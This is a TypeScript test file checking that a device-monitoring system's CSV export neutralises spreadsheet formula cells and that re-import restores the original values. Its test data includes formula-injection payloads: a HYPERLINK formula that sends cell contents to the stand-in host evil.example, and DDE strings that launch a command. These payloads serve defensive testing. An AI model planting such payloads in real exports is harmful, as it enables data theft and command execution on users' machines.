import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../../monitor/onboarding/formula-cells.ts';
import { startTestSystem, type TestSystem } from '../helpers/system.ts';

/** Names an attacker (or an unlucky person) might give a device, and what the export must write. */
const NAMES: [stored: string, exported: string][] = [
  ['=HYPERLINK("http://evil.example/?"&A2,"click")', `'=HYPERLINK("http://evil.example/?"&A2,"click")`],
  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(1+1)', `'@SUM(1+1)`],
  ["'=already quoted", "''=already quoted"],
  ["''+two quotes", "'''+two quotes"],
  ["'tis the season", "'tis the season"],
  ['-5', '-5'],
  ['Twiga', 'Twiga'],
  ['Kito = the brave', 'Kito = the brave'],
];

describe('formula cells', () => {
  it('prefixes a quote to every cell a spreadsheet would run, and onboarding takes exactly that quote off', () => {
    for (const [stored, exported] of NAMES) {
      expect(neutraliseFormula(stored)).toBe(exported);
      expect(restoreFormula(neutraliseFormula(stored))).toBe(stored);
    }
    // Legacy values that start with a tab or CR (names with control characters are refused now).
    for (const s of ['\t=1+1', '\r=1+1', "'\t=x"]) expect(restoreFormula(neutraliseFormula(s))).toBe(s);
  });
});

describe('CSV export and re-import', () => {
  let source: TestSystem;
  let target: TestSystem;
  beforeAll(async () => {
    [source, target] = await Promise.all([startTestSystem(), startTestSystem()]);
    for (const [i, [name]] of NAMES.entries()) {
      await source.addDevice(`dev-${i}`, 'acme', {
        name,
        species: i === 0 ? '=1+1' : 'giraffe',
        nickname: i === 3 ? '@nick' : null,
        tagModel: i === 2 ? '-model' : null,
      });
    }
    await source.addDevice('-lead', 'acme', { msisdn: '+46701234567', iccid: '89254021234567890121', interval: 600 });
    await target.api('POST', '/api/customers', { id: 'acme', name: 'Acme' });
  });
  afterAll(async () => {
    await Promise.all([source?.close(), target?.close()]);
  });

  it('writes no cell that a spreadsheet would run, but keeps numbers and digit strings as they are', async () => {
    const res = await fetch(`${source.url}/api/devices.csv`, { headers: { authorization: `Bearer ${source.adminToken}` } });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const plainNumber = /^[+-]?\d+(\.\d+)?$/;
    for (const row of rows)
      for (const cell of Object.values(row)) if (!plainNumber.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const byId = new Map(rows.map((r) => [r.deviceId, r]));
    for (const [i, [, exported]] of NAMES.entries()) expect(byId.get(`dev-${i}`)!.name).toBe(exported);
    expect(byId.get('dev-0')!.species).toBe("'=1+1");
    expect(byId.get('dev-3')!.nickname).toBe("'@nick");
    expect(byId.get("'-lead")).toMatchObject({ msisdn: '+46701234567', iccid: '89254021234567890121', interval: '600' });
  });

  it('gives back the original names, species and ids when the export is onboarded again', async () => {
    const csv = await (await fetch(`${source.url}/api/devices.csv`, { headers: { authorization: `Bearer ${source.adminToken}` } })).text();
    const res = await fetch(`${target.url}/api/onboarding`, {
      method: 'POST',
      headers: { authorization: `Bearer ${target.adminToken}`, 'content-type': 'text/csv' },
      body: csv,
    });
    const out = await res.json();
    expect(out.rejected).toEqual([]);
    expect(out.created).toBe(NAMES.length + 1);
    for (const [i, [stored]] of NAMES.entries()) {
      const a = source.registry.getDevice(`dev-${i}`)!;
      const b = target.registry.getDevice(`dev-${i}`)!;
      expect([b.name, b.species, b.nickname, b.tagModel]).toEqual([stored, a.species, a.nickname, a.tagModel]);
    }
    expect(target.registry.getDevice('-lead')).toMatchObject({ msisdn: '+46701234567', iccid: '89254021234567890121' });
  });
});
